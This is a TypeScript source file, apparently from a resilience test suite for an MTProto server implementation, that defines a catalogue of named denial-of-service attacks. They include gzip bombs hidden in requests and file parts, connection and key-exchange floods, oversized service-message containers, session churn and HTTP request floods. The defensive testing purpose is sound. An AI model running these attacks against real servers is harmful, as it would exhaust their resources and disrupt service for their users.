import { gzipSync } from 'node:zlib';
import { makeKeyWith, wireTo } from '@aerogram/dev-env/load';
import { type ClientMessage, createClientStream, openWire, RawClient, type Wire, writePlainMessage } from '@aerogram/mtproto/client';
import { systemRandom } from '@aerogram/runtime';
import { encode, mtEncode } from '@aerogram/tl';
import { type Attack, aborted } from './attack.ts';
import { connections, openClient, packets, turn } from './connections.ts';
import { GROUP_ATTACKS } from './group-attacks.ts';
import { PART_ATTACKS } from './part-attacks.ts';
import { REQUEST_ATTACKS } from './request-attacks.ts';

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
}

/** `gzip_packed` of a megabyte of zeros. */
const bomb = (): Buffer => packed(Buffer.alloc(1024 * 1024 - 64));

function packed(body: Uint8Array): Buffer {
  const data = gzipSync(body);
  const head = Buffer.alloc(8);
  head.writeUInt32LE(0x3072cfa1, 0);
  head.writeUInt32LE(((data.length << 8) | 0xfe) >>> 0, 4);
  return Buffer.concat([head, data, Buffer.alloc(-data.length & 3)]);
}

const BOMB = bomb();
/** The same as a real request: a file part that contains only zeros. */
const PART_BOMB = packed(encode({ _: 'upload.saveFilePart', file_id: 1n, file_part: 0, bytes: Buffer.alloc(512 * 1024) }));
/** Wrapped in `invokeWithoutUpdates`: unpacked by the request reader, not by the session. */
const WRAPPED_BOMB = Buffer.concat([word(0xbf9459b7), BOMB]);
const many = (count: number, body: Uint8Array, content = true): ClientMessage[] => Array.from({ length: count }, () => ({ body, content }));
const ids = (count: number): bigint[] => Array.from({ length: count }, (_, i) => BigInt(i) * 4n + 1n);
/** Calls that read a history; each is different, because the server makes repeated calls more and more expensive. */
const histories = (count: number): ClientMessage[] =>
  Array.from({ length: count }, () => ({
    body: encode({
      _: 'messages.getHistory', peer: { _: 'inputPeerSelf' }, offset_id: 0, offset_date: 0, add_offset: 0, limit: 100, max_id: 0, min_id: 0, hash: systemRandom.int63(),
    }),
  }));
const handshake = (): Uint8Array => writePlainMessage(BigInt(Date.now()) << 32n, mtEncode({ _: 'req_pq_multi', nonce: systemRandom.bytes(16) }));

/** All attacks by name. */
export const ATTACKS: Record<string, Attack> = {
  'nothing, to compare with': async ({ signal }) => {
    await aborted(signal);
    return 0;
  },
  'connections that say nothing': connections(500, () => {}),
  'connections that begin a packet': connections(500, (socket) => void socket.write(Buffer.from([0xef, 0x7f, 0xff, 0xff, 0]))),
  'key exchanges begun and left': connections(500, (socket) => {
    const stream = createClientStream({ framing: 'abridged', obfuscated: false, random: systemRandom });
    socket.resume().write(Buffer.concat([stream.header, stream.packet(handshake())]));
  }),
  'new keys': async (target) => {
    let made = 0;
    await Promise.all(Array.from({ length: 8 }, async () => {
      while (!target.signal.aborted) {
        await makeKeyWith(target.info).then(() => void made++, turn);
      }
    }));
    return made;
  },
  'keys that do not exist': async (target) => {
    let sent = 0;
    const wires: Wire[] = [];
    while (!target.signal.aborted) {
      const wire = await openWire(wireTo(target.info), { onPacket: () => {}, onQuickAck: () => {}, onError: () => {}, onClosed: () => {} }).catch(() => undefined);
      if (!wire) continue;
      wire.send(systemRandom.bytes(24 + 64));
      sent += 1;
      wires.push(wire);
      if (wires.length > 50) wires.shift()!.close();
    }
    for (const wire of wires) wire.close();
    return sent;
  },
  'gzip bombs': packets(() => many(1, BOMB)),
  'gzip bombs inside requests': packets(() => many(100, WRAPPED_BOMB)),
  'gzip bombs of parts of files': packets(() => many(1, PART_BOMB)),
  'containers of 1020 pings': packets(() => many(1020, mtEncode({ _: 'ping', ping_id: 1n }), false)),
  'questions for salts': packets(() => many(1020, mtEncode({ _: 'get_future_salts', num: 64 }), false)),
  'questions for states': packets(() => many(8, mtEncode({ _: 'msgs_state_req', msg_ids: ids(8_000) }), false)),
  'wishes for resends': packets(() => many(100, mtEncode({ _: 'msg_resend_req', msg_ids: ids(500) }), false)),
  'acknowledgements of nothing': packets(() => many(8, mtEncode({ _: 'msgs_ack', msg_ids: ids(8_000) }), false)),
  'calls without reading answers': packets(() => histories(500), { reads: false }),
  'calls never acknowledged': packets(() => histories(100)),
  'calls that wait for others': packets(() => many(100, encode({ _: 'invokeAfterMsg', msg_id: 4n, query: { _: 'help.getNearestDc' } }))),
  'a new session for each packet': async (target) => {
    let sent = 0;
    await Promise.all(target.keys.map(async (key) => {
      const first = await openClient(target, key);
      if (!first) return;
      const { salt } = first.session;
      while (!target.signal.aborted) {
        const client = await RawClient.connect({ ...wireTo(target.info), clientKey: { ...key, salt } }).catch(() => undefined);
        client?.ping(1n);
        sent += 1;
        await turn();
        await client?.[Symbol.asyncDispose]();
      }
      await first[Symbol.asyncDispose]();
    }));
    return sent;
  },
  'requests over HTTP, many at once': async ({ info, signal }) => {
    let sent = 0;
    const { host, port } = info.mtproto;
    await Promise.all(Array.from({ length: 20 }, async () => {
      while (!signal.aborted) {
        const body = systemRandom.bytes(88);
        await fetch(`http://${host}:${port}/api`, { method: 'POST', body }).then((answer) => answer.arrayBuffer(), turn);
        sent += 1;
      }
    }));
    return sent;
  },
  ...PART_ATTACKS,
  ...GROUP_ATTACKS,
  ...REQUEST_ATTACKS,
};
